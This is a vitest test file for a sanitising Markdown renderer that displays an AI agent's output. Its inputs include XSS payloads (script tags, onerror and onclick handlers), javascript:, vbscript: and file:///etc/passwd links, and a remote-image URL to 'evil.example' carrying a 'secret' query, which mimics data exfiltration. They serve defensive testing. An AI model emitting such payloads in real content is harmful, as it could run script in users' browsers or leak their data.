import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { growBlocks, lexBlocks } from "./lex";
import { Markdown } from "./Markdown";
import { decodeEntities, imageSource, safeHref } from "./safe";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} streaming={false} />);

describe("Markdown from the agent", () => {
  it("never becomes HTML of its own", () => {
    const out = html('<script>alert(1)</script>\n\n<img src=x onerror="alert(1)"> and <b onclick=x>b</b>');
    expect(out).not.toMatch(/<script|<img|<b /);
    expect(out).toContain("&lt;script&gt;");
  });

  it.each(["javascript:alert(1)", " JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd"])(
    "does not link to %s", (href) => {
      expect(safeHref(href)).toBeNull();
      expect(html(`[x](<${href}>)`)).not.toContain("href");
    });

  it("opens links apart from the app, without telling where they were", () => {
    expect(html("[x](https://example.com/)")).toContain('href="https://example.com/" target="_blank" rel="noopener noreferrer"');
  });

  it("loads no remote image before it is asked to", () => {
    expect(html("![x](https://evil.example/?q=secret)")).not.toContain("<img");
    expect(imageSource("http://plain.example/a.png")).toBeNull();
    expect(imageSource("data:image/svg+xml;base64,AAAA")).toBeNull();
  });

  it("shows an image that is in the text itself", () => {
    expect(html("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain('<img class="md-image" src="data:image/png');
  });

  it("draws tables, tasks, code and lists", () => {
    const out = html("| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- [x] done\n\n3. three\n\n```py\nx = 1 < 2\n```");
    expect(out).toContain('<th scope="col" class="md-center">a</th>');
    expect(out).toContain("checked");
    expect(out).toContain('<ol start="3" dir="auto">');
    expect(out).toContain("x = 1 &lt; 2");
  });

  it("decodes character references outside code, and leaves code as it is", () => {
    expect(html("&copy; `&copy;`")).toContain("© <code>&amp;copy;</code>");
    expect(decodeEntities("&#x1F44B; &#44; &bogus; &#0; &lt;")).toBe("👋 , &bogus; &#0; <");
  });

  it("starts its headings below those of the page and skips no level", () => {
    expect(html("# Top")).toContain("<h3");
    expect([...html("## A\n\n#### B\n\n# C\n\n### D").matchAll(/<h(\d)/g)].map(([, level]) => level)).toEqual(["3", "4", "3", "4"]);
  });
});

const GROWING = [
  "# One\n\npara with `code`\n\n```js\nlet a\n\nlet b\n```\n\n- x\n- y\n\n  more y\n\n1. z\n\nlast words that go on",
  "Title\n===\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\nlazy\n\n    indented\n\n<div>\nhtml\n</div>\n\n***\n\nend",
  "see [x] first\n\none\n\ntwo\n\nthree\n\nfour\n\n[x]: https://example.com/\n\nfive",
  "windows\r\n\r\nline ends\r\n\r\nin\r\n\r\nfour\r\n\r\nfive\r\n\r\nblocks",
].map((text) => [text]);

describe("blocks of a growing answer", () => {
  it.each(GROWING)("are the same whether read piece by piece or at once (%#)", (text) => {
    for (const step of [1, 7]) {
      let grown = growBlocks(null, "");
      for (let length = step; length <= text.length; length += step) {
        grown = growBlocks(grown, text.slice(0, length));
        expect([...grown.tokens]).toEqual([...lexBlocks(text.slice(0, length)).tokens]);
      }
    }
  });

  it("keep finished blocks as they are, so that these are not drawn again", () => {
    const text = "one\n\ntwo\n\nthree\n\nfour\n\nfive";
    const before = growBlocks(null, text);
    expect(growBlocks(before, `${text}\n\nsix`).tokens[0]).toBe(before.tokens[0]);
  });
});
